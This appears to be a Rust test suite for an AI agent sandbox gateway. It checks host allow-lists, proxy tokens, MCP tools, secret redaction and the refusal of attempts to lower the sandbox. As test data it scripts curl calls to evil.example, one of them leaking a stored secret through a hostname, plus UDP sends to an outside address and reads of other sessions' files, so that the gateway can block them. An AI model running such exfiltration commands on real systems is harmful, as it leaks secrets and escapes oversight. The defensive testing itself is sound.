//! The gateway as a session meets it: what is let through its walls, to whom, and what is left when a runner dies.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::path::Path;
use std::process::Child;
use std::time::Duration;

use serde_json::{Value, json};

use crate::run::{arguments, kill_runners, prepared, worktree};
use crate::running::wait_until;
use crate::support::{Home, Outcome, files, git};
use crate::walking::one;

const LONGHAUL: &str = env!("CARGO_BIN_EXE_longhaul");

/// A cassette that runs these commands, one by one, in the first step, and then hands in all three.
fn playing(commands: &[&str]) -> String {
    let calls: Vec<Value> =
        commands.iter().map(|command| json!({ "bash": { "command": command, "expect_exit": 0 } })).collect();
    let complete = |step: &str| json!({ "match": { "step": step }, "complete": { "notes": "Done." } });
    let first = json!({ "match": { "step": "look" }, "tools": calls });
    let turns = json!([first, complete("look"), complete("change"), complete("check")]);
    json!({ "cassette": 1, "turns": turns }).to_string()
}

fn run(home: &Home, flags: &[&str]) -> Outcome {
    start(home, flags).wait_with_output().map(|output| Outcome::of(&home.path, &output)).unwrap()
}

/// The same, without waiting for it.
fn start(home: &Home, flags: &[&str]) -> Child {
    let run = arguments(home);
    let words: Vec<&str> = run.iter().map(String::as_str).chain(flags.iter().copied()).collect();
    home.run(&words).inside("repo").start()
}

/// What a command wrote into the worktree.
fn written(home: &Home, name: &str) -> String {
    fs::read_to_string(worktree(home).join(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
}

fn story(home: &Home) -> String {
    let id = one(&home.longhaul(&["session", "list", "--all", "--json"]))["id"].as_str().unwrap().to_owned();
    home.longhaul(&["session", "show", &id]).succeeded().stdout
}

/// A server that says hello to everybody.
fn server() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let _ = stream.read(&mut [0; 4096]);
            let _ =
                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
        }
    });
    address
}

/// The sockets that gateways have open or left behind.
fn sockets(home: &Home) -> Vec<String> {
    let Ok(entries) = fs::read_dir(home.longhaul_home().join("run")) else { return Vec::new() };
    let names = entries.flatten().map(|entry| entry.file_name().into_string().unwrap());
    names.filter(|name| name.contains(".sock")).collect()
}

#[test]
fn a_listed_host_is_reached_through_the_proxy_and_nothing_else_is() {
    let address = server();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let letter = udp.local_addr().unwrap().port();
    let home = prepared(&playing(&[
        &format!("curl -sS --noproxy '' http://{address}/ > plain.txt"),
        &format!("curl -sS --noproxy '' --proxytunnel http://{address}/ > tunnel.txt"),
        "curl -sS --noproxy '' -w '%{http_code}' http://evil.example/ > refused.txt",
        "curl -sS --noproxy '' https://evil.example/ 2> tunnel-refused.txt; true",
        &format!("curl -s --noproxy '*' -m 5 http://{address}/ > direct.txt; echo $? > direct-exit.txt"),
        "getent hosts example.com > names.txt; echo $? > names-exit.txt",
        &format!("bash -c 'echo hi > /dev/udp/127.0.0.1/{letter}'; true"),
        "bash -c 'echo hi > /dev/udp/192.0.2.1/53' 2> udp.txt; true",
        "env | grep -i _proxy | sort > environment.txt",
    ]));
    let hosts = format!("sandbox.hosts={address}");
    run(&home, &["-c", &hosts]).succeeded();
    assert_eq!(written(&home, "plain.txt"), "hello");
    assert_eq!(written(&home, "tunnel.txt"), "hello");
    let refused = written(&home, "refused.txt");
    assert!(
        refused.ends_with("403") && refused.contains("add `evil.example` to `sandbox.hosts`"),
        "{refused}"
    );
    assert!(written(&home, "tunnel-refused.txt").contains("403"), "{}", written(&home, "tunnel-refused.txt"));
    assert_eq!((written(&home, "direct.txt").as_str(), written(&home, "direct-exit.txt").trim()), ("", "7"));
    assert_eq!((written(&home, "names.txt").as_str(), written(&home, "names-exit.txt").trim()), ("", "2"));
    assert!(written(&home, "udp.txt").contains("unreachable"), "{}", written(&home, "udp.txt"));
    udp.set_nonblocking(true).unwrap();
    assert!(udp.recv(&mut [0; 16]).is_err(), "a letter came out");
    let environment = written(&home, "environment.txt");
    for name in ["HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"] {
        assert!(environment.contains(&format!("{name}=http://longhaul:lh-")), "{environment}");
    }
    assert_eq!(environment.matches("@127.0.0.1:7411\n").count(), 4, "{environment}");
    assert!(environment.contains("NO_PROXY=127.0.0.1,localhost\n"), "{environment}");
    let story = story(&home);
    assert!(story.contains("a host was not let through") && story.contains("evil.example:80"), "{story}");
    assert!(!story.contains("{\"host\""), "in words: {story}");
    assert_eq!(story.matches("`evil.example:80` is not let through").count(), 1, "{story}");
    assert!(sockets(&home).is_empty(), "the gateway goes with the runner: {:?}", sockets(&home));
}

#[test]
fn a_secret_in_the_name_of_a_host_is_not_stored_in_whatever_case() {
    // Put together inside, so that it stands in no command and no script.
    let asking = |first: &str, last: &str| {
        format!(
            "curl -sS --noproxy '' -o /dev/null \"http://$(printf '{first}-%s' {last}).evil.example/\"; true"
        )
    };
    let commands = [asking("Hunter2", "Is-Mine"), asking("HUNTER2", "IS-MINE")];
    let home = prepared(&playing(&commands.each_ref().map(String::as_str)));
    home.run(&["secret", "set", "DATABASE"]).stdin("Hunter2-Is-Mine").go().succeeded();
    run(&home, &[]).succeeded();
    let story = story(&home);
    assert!(story.contains("`[secret:DATABASE].evil.example:80` is not let through"), "{story}");
    assert!(!story.to_lowercase().contains("hunter2-is-mine"), "{story}");
}

#[test]
fn without_a_network_even_a_listed_host_is_not_reached() {
    let address = server();
    let home = prepared(&playing(&[&format!(
        "curl -sS --noproxy '' -w '%{{http_code}}' http://{address}/ > plain.txt"
    )]));
    run(&home, &["--network", "none", "-c", &format!("sandbox.hosts={address}")]).succeeded();
    assert!(written(&home, "plain.txt").ends_with("403"), "{}", written(&home, "plain.txt"));
}

#[test]
fn below_level_full_the_proxy_asks_for_the_token_and_whoever_works_inside_has_it() {
    let address = server();
    let home = prepared(&playing(&[
        &format!("curl -sS --noproxy '' http://{address}/ > plain.txt"),
        &format!(
            "curl -sS --noproxy '' -x \"http://127.0.0.1:${{HTTP_PROXY##*:}}\" -w '%{{http_code}}' http://{address}/ > stranger.txt"
        ),
    ]));
    run(&home, &["--sandbox", "reduced", "-c", &format!("sandbox.hosts={address}")]).succeeded();
    assert_eq!(written(&home, "plain.txt"), "hello");
    assert!(written(&home, "stranger.txt").ends_with("407"), "{}", written(&home, "stranger.txt"));
}

#[test]
fn a_gateway_that_cannot_be_opened_parks_the_session_and_says_why() {
    let home = prepared(&playing(&["echo done > done.txt"]));
    fs::create_dir_all(home.longhaul_home()).unwrap();
    fs::write(home.longhaul_home().join("run"), "in the way").unwrap();
    let outcome = run(&home, &[]);
    assert_eq!(outcome.code, Some(3), "{outcome}");
    assert!(!worktree(&home).join("done.txt").exists(), "nothing is run without a way out");
    let story = story(&home);
    assert!(story.contains("could not make") && story.contains("longhaul session rewind"), "{story}");
}

/// What a client of the tools says, as lines.
fn talk() -> String {
    let lines = [
        json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": { "protocolVersion": "2025-06-18",
            "capabilities": {}, "clientInfo": { "name": "test", "version": "1" } } }),
        json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }),
        json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/list" }),
        json!({ "jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": { "name": "note_fact",
            "arguments": { "fact": "the moon is far", "evidence": "looked" } } }),
        json!({ "jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": { "name": "list_workflows", "arguments": {} } }),
        json!({ "jsonrpc": "2.0", "id": 5, "method": "tools/list", "params": { "_meta": {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": { "name": "test", "version": "1" },
            "io.modelcontextprotocol/clientCapabilities": {} } } }),
        json!({ "jsonrpc": "2.0", "id": 6, "method": "tools/call", "params": { "name": "complete_step", "arguments": {} } }),
        json!("no message"),
    ];
    lines.map(|line| format!("{line}\n")).concat()
}

/// Puts a file into the repository that the worktree is made from.
fn committed(home: &Home, name: &str, text: &str) {
    let repository = home.join("repo");
    fs::write(repository.join(name), text).unwrap();
    git(&repository, &["add", "."]);
    git(&repository, &["commit", "--quiet", "-m", name]);
}

fn answers(text: &str) -> Vec<Value> {
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}")))
        .collect()
}

fn tools(answer: &Value) -> Vec<&str> {
    answer["result"]["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect()
}

#[test]
fn whoever_works_inside_has_the_tools_of_the_session_and_no_others() {
    for level in ["full", "reduced"] {
        let outside = "ls /run/longhaul > inside.txt; ls \"$OUTSIDE\" > outside.txt 2>&1; true";
        let home = prepared("");
        let run_folder = home.longhaul_home().join("run");
        let script = playing(&[
            &format!("{LONGHAUL} mcp --attach < talk.jsonl > answers.jsonl 2> complaints.txt"),
            &outside.replace("$OUTSIDE", run_folder.to_str().unwrap()),
        ]);
        fs::write(home.join("run.yml"), script).unwrap();
        committed(&home, "talk.jsonl", &talk());
        run(&home, &["--sandbox", level]).succeeded();
        let answers = answers(&written(&home, "answers.jsonl"));
        let answer = |id: u64| {
            answers.iter().find(|answer| answer["id"] == id).unwrap_or_else(|| panic!("{answers:?}"))
        };
        assert_eq!(answer(1)["result"]["protocolVersion"], "2025-06-18", "{answers:?}");
        for id in [2, 5] {
            let tools = tools(answer(id));
            assert!(tools.contains(&"note_fact") && tools.contains(&"complete_step"), "{tools:?}");
            assert!(!tools.contains(&"start_workflow"), "{tools:?}");
        }
        assert!(!answer(3)["result"]["isError"].as_bool().unwrap_or(false), "{answers:?}");
        assert!(answer(4)["error"]["message"].as_str().unwrap().contains("there is no tool"), "{answers:?}");
        assert!(
            answers.iter().any(|answer| answer["id"].is_null() && answer["error"].is_object()),
            "{answers:?}"
        );
        assert!(answer(6)["result"].to_string().contains("Look."), "{answers:?}");
        assert_eq!(answers.len(), 7, "{answers:?}");
        assert!(written(&home, "complaints.txt").is_empty());
        let story = story(&home);
        assert!(story.contains("the agent noted a fact") && story.contains("the moon is far"), "{story}");
        if level == "full" {
            assert_eq!(written(&home, "inside.txt"), "gateway.sock\n");
            assert!(
                written(&home, "outside.txt").contains("No such file"),
                "{}",
                written(&home, "outside.txt")
            );
        }
    }
}

/// A session without walls that says how its gateway is reached, and goes on until it is told to end.
const SAYING: &str = "echo $LONGHAUL_GATEWAY > socket.txt; echo $LONGHAUL_GATEWAY_TOKEN > said.tmp; mv said.tmp token.txt; while ! test -e end.txt; do sleep 0.05; done";

/// The line of a file in the only worktree, once it is there.
fn told(home: &Home, name: &str) -> String {
    let found = || {
        let folder = home.longhaul_home().join("data/checkouts");
        crate::support::files(&folder)
            .into_iter()
            .find(|path| path.file_name().is_some_and(|file| file == name))
    };
    wait_until("a session says where its gateway is", || {
        home.longhaul_home().join("data/checkouts").exists() && found().is_some()
    });
    fs::read_to_string(found().unwrap()).unwrap().trim().to_owned()
}

fn ask(socket: &str, token: Option<&str>) -> String {
    let mut stream = std::os::unix::net::UnixStream::connect(socket).unwrap();
    let shown = token.map(|token| format!("Authorization: Bearer {token}\r\n")).unwrap_or_default();
    write!(stream, "GET /mcp HTTP/1.1\r\nHost: localhost\r\n{shown}Connection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer.lines().next().unwrap_or_default().to_owned()
}

#[test]
fn the_token_of_one_session_opens_no_other_and_is_stored_nowhere() {
    let homes = [
        prepared(&playing(&[SAYING])),
        prepared(&playing(&[SAYING, "echo the token is $LONGHAUL_GATEWAY_TOKEN"])),
    ];
    let mut running: Vec<_> = homes.iter().map(|home| start(home, &["--sandbox", "none"])).collect();
    let [first, second] =
        [&homes[0], &homes[1]].map(|home| (told(home, "token.txt"), told(home, "socket.txt")));
    assert_ne!(first.0, second.0);
    let unauthorized = "HTTP/1.1 401 Unauthorized";
    assert_eq!(ask(&first.1, None), unauthorized);
    assert_eq!(ask(&first.1, Some(&second.0)), unauthorized);
    assert_ne!(ask(&first.1, Some(&first.0)), unauthorized);
    assert_ne!(ask(&second.1, Some(&second.0)), unauthorized);
    for (home, running) in homes.iter().zip(&mut running) {
        fs::write(worktree(home).join("end.txt"), "").unwrap();
        assert!(running.wait().unwrap().success());
    }
    let home = &homes[1];
    let id = one(&home.longhaul(&["session", "list", "--all", "--json"]))["id"].as_str().unwrap().to_owned();
    let all = home.longhaul(&["session", "show", &id, "--json"]).succeeded().stdout;
    assert!(all.contains("[secret:LONGHAUL_GATEWAY_TOKEN]") && !all.contains(&second.0), "{all}");
    for file in crate::support::files(&home.longhaul_home().join("data")) {
        let is_ours = !file.starts_with(home.longhaul_home().join("data/checkouts"));
        let holds = fs::read(&file).unwrap().windows(second.0.len()).any(|part| part == second.0.as_bytes());
        assert!(!(is_ours && holds && !is_snapshot(&file)), "{}", file.display());
    }
}

#[test]
fn whoever_is_outside_of_full_walls_gets_nothing_from_the_socket_without_the_token() {
    let home = prepared(&playing(&[SAYING]));
    let mut running = start(&home, &[]);
    let token = told(&home, "token.txt");
    assert_eq!(told(&home, "socket.txt"), "/run/longhaul/gateway.sock");
    let [name] = &sockets(&home)[..] else { panic!("one socket is expected") };
    let socket = home.longhaul_home().join("run").join(name).display().to_string();
    let unauthorized = "HTTP/1.1 401 Unauthorized";
    assert_eq!(ask(&socket, None), unauthorized);
    assert_eq!(ask(&socket, Some("lh-guess")), unauthorized);
    assert_ne!(ask(&socket, Some(&token)), unauthorized);
    fs::write(worktree(&home).join("end.txt"), "").unwrap();
    assert!(running.wait().unwrap().success());
}

/// Snapshots are of the worktree, where the session itself wrote it; they are packed in any case.
fn is_snapshot(file: &Path) -> bool {
    file.components().any(|part| part.as_os_str() == "snapshots")
}

#[test]
fn a_runner_that_is_killed_leaves_nothing_that_the_next_cannot_replace() {
    let address = server();
    let command = format!(
        "if test -e born.txt; then curl -sS --noproxy '' http://{address}/ > after.txt; else touch born.txt; sleep 600; fi"
    );
    let home = prepared(&playing(&[&command]));
    let mut running = start(&home, &["-c", &format!("sandbox.hosts={address}")]);
    let is_born = || home.longhaul_home().join("data/checkouts").exists() && worktree_has(&home, "born.txt");
    wait_until("the command runs", is_born);
    assert_eq!(sockets(&home).len(), 1);
    assert!(kill_runners(&home) > 0);
    assert!(running.wait().unwrap().success());
    assert_eq!(written(&home, "after.txt"), "hello");
    assert!(sockets(&home).is_empty(), "{:?}", sockets(&home));
}

fn worktree_has(home: &Home, name: &str) -> bool {
    let folder = home.longhaul_home().join("data/checkouts");
    crate::support::files(&folder).iter().any(|path| path.file_name().is_some_and(|file| file == name))
}

#[test]
fn outside_of_a_session_there_is_nothing_to_attach_to() {
    let home = Home::new();
    let outcome = home.longhaul(&["mcp", "--attach"]);
    assert_eq!(outcome.code, Some(4), "{outcome}");
    assert!(outcome.stderr.contains("there is no gateway at `/run/longhaul/gateway.sock`"), "{outcome}");
    assert_eq!(home.longhaul(&["mcp", "--attach", "--http", "127.0.0.1:0"]).code, Some(2));
}

/// A folder of tools is shown to every agent, and somebody may have put ours into one.
#[test]
fn nothing_of_ours_is_seen_though_it_lies_in_what_is_shown() {
    let look = "data=$PWD/../../..; find $data/longhaul.db* $data/views.db* $data/blobs $data/snapshots $data/setups $data/checkouts/other $data/../config -type f -exec head -c 1 {} ';' | wc -c > seen.txt";
    for (level, sees) in [("full", false), ("reduced", false), ("none", true)] {
        let home = prepared(&playing(&[look]));
        let inner = home.join("user/.local/lib/lh");
        fs::create_dir_all(inner.parent().unwrap()).unwrap();
        fs::rename(home.longhaul_home(), &inner).unwrap();
        fs::create_dir_all(inner.join("data/checkouts/other/work")).unwrap();
        fs::write(inner.join("data/checkouts/other/work/file.txt"), "of another session").unwrap();
        let run = arguments(&home);
        let words: Vec<&str> = run.iter().map(String::as_str).chain(["--sandbox", level]).collect();
        home.run(&words).variable("LONGHAUL_HOME", &inner).inside("repo").go().succeeded();
        let seen = files(&inner.join("data/checkouts")).into_iter().find(|path| path.ends_with("seen.txt"));
        let seen: u32 = fs::read_to_string(seen.unwrap()).unwrap().trim().parse().unwrap();
        assert_eq!(seen > 0, sees, "{level}: {seen} files");
    }
}

#[test]
fn a_cache_can_be_changed_from_inside_and_keys_can_not_be_named_as_one() {
    let home = prepared(&playing(&["echo kept > \"$HOME/.npm/deep.txt\"", "ls -A \"$HOME\" > home.txt"]));
    fs::create_dir_all(home.join("user/.ssh")).unwrap();
    run(&home, &["-c", "sandbox.caches=~/.npm"]).succeeded();
    assert_eq!(fs::read_to_string(home.join("user/.npm/deep.txt")).unwrap(), "kept\n");
    assert_eq!(written(&home, "home.txt"), ".npm\n");
    let sessions = home.longhaul(&["session", "list", "--all", "--json"]).rows().len();
    std::os::unix::fs::symlink(".npm", home.join("user/.link")).unwrap();
    for cache in ["~/.ssh", "~/.config", "/tmp", "~/.link"] {
        let refused = run(&home, &["-c", &format!("sandbox.caches={cache}")]);
        assert_eq!(refused.code, Some(2), "{cache}: {refused}");
        assert!(refused.stderr.contains("E0802") && refused.stderr.contains(cache), "{refused}");
    }
    assert_eq!(
        home.longhaul(&["session", "list", "--all", "--json"]).rows().len(),
        sessions,
        "nothing was started"
    );
}

#[test]
fn a_repository_lowers_the_walls_only_while_a_person_trusts_it() {
    let script = playing(&["test -e /run/longhaul/gateway.sock; echo $? > walls.txt"]);
    for (is_trusted, walled) in [(false, "0"), (true, "1")] {
        let home = prepared(&script);
        committed(&home, ".longhaul/config.yml", "sandbox: { level: none, network: open }\n");
        home.run(&["workspace", "add"]).inside("repo").go().succeeded();
        if is_trusted {
            home.trust("repo");
        }
        run(&home, &[]).succeeded();
        assert_eq!(written(&home, "walls.txt").trim(), walled, "trusted: {is_trusted}");
    }
}

#[test]
fn an_agent_lowers_no_walls() {
    let home = prepared(&playing(&["echo $LONGHAUL_GATEWAY > walls.txt"]));
    fs::create_dir_all(home.longhaul_home().join("config")).unwrap();
    let settings = "sandbox: { network: allow-list, hosts: [ docs.example.com ] }\n";
    fs::write(home.longhaul_home().join("config/config.yml"), settings).unwrap();
    let run = |flags: &[&str], [name, value]: [&str; 2]| {
        let words = arguments(&home);
        let words: Vec<&str> = words.iter().map(String::as_str).chain(flags.iter().copied()).collect();
        let run = home.run(&words).inside("repo").variable("LONGHAUL_SESSION", "s-0123456789abc");
        run.variable(name, value).go()
    };
    let nothing = ["LC_ALL", "C"];
    let tries: [(&[&str], [&str; 2]); 10] = [
        (&["--sandbox", "none"], nothing),
        (&["--sandbox", "reduced"], nothing),
        (&["--network", "open"], nothing),
        (&["-c", "sandbox.level=none"], nothing),
        (&["-c", "sandbox.network=open"], nothing),
        (&["-c", "sandbox.hosts=evil.example"], nothing),
        (&["-c", "sandbox.caches=~/.npm"], nothing),
        (&["-c", "sandbox.accept_reduced=true"], nothing),
        (&[], ["LONGHAUL_SANDBOX_LEVEL", "none"]),
        (&[], ["LONGHAUL_SANDBOX_HOSTS", "evil.example"]),
    ];
    for (flags, variable) in tries {
        let refused = run(flags, variable);
        assert_eq!(refused.code, Some(3), "{flags:?} {variable:?}: {refused}");
        assert!(refused.stderr.contains("E0303"), "{refused}");
    }
    assert!(!home.join("user/.npm").exists(), "nothing was made");
    assert!(home.longhaul(&["session", "list", "--all", "--json"]).rows().is_empty(), "nothing was started");
    run(&["--network", "none", "--sandbox", "full"], nothing).succeeded();
    assert_eq!(written(&home, "walls.txt"), "/run/longhaul/gateway.sock\n");
}

/// Inside of walls there are no others to be had but reduced ones.
fn run_inside_walls(home: &Home, flags: &[&str]) -> Outcome {
    let folder = Path::new(LONGHAUL).parent().unwrap().to_str().unwrap();
    let variables = [
        format!("LONGHAUL_HOME={}", home.longhaul_home().display()),
        format!("HOME={}", home.join("user").display()),
    ];
    let top = home.path.to_str().unwrap();
    let mut words = vec!["sandbox", "check", "--write", top, "--read", folder, "--", "env"];
    words.extend(variables.iter().map(String::as_str));
    let run = arguments(home);
    words.push(LONGHAUL);
    words.extend(run.iter().map(String::as_str));
    words.extend(flags);
    home.run(&words).inside("repo").go()
}

#[test]
fn where_full_walls_are_not_to_be_had_it_is_refused_unless_a_person_accepts_less() {
    let home = prepared(&playing(&["echo done > done.txt"]));
    let refused = run_inside_walls(&home, &[]);
    assert_eq!(refused.code, Some(4), "{refused}");
    for told in ["E0801", "level `full`", "make namespaces", "sandbox.accept_reduced: true"] {
        assert!(refused.stderr.contains(told), "{told} is not in {refused}");
    }
    assert!(home.longhaul(&["session", "list", "--all", "--json"]).rows().is_empty(), "nothing was started");
    let accepted = run_inside_walls(&home, &["-c", "sandbox.accept_reduced=true"]).succeeded();
    assert!(accepted.stdout.contains(r#""isComplete":true"#), "{accepted}");
    assert_eq!(written(&home, "done.txt"), "done\n");
    let detached = run_inside_walls(&home, &["-c", "sandbox.accept_reduced=true", "--detach"]).succeeded();
    assert!(detached.stdout.contains("the walls are those of level reduced"), "{detached}");
}

#[test]
fn the_checkup_says_whether_the_walls_work() {
    let home = Home::new();
    let sandbox = |flags: &[&str]| {
        let words: Vec<&str> = ["doctor", "--json"].into_iter().chain(flags.iter().copied()).collect();
        let rows = home.longhaul(&words).rows();
        rows.into_iter().find(|row| row["subject"] == "sandbox").unwrap()
    };
    assert_eq!(sandbox(&[])["finding"], "level full works here");
    let without = sandbox(&["-c", "sandbox.level=none"]);
    assert_eq!((&without["status"], without["remedy"].is_string()), (&"warning".into(), true), "{without}");
}
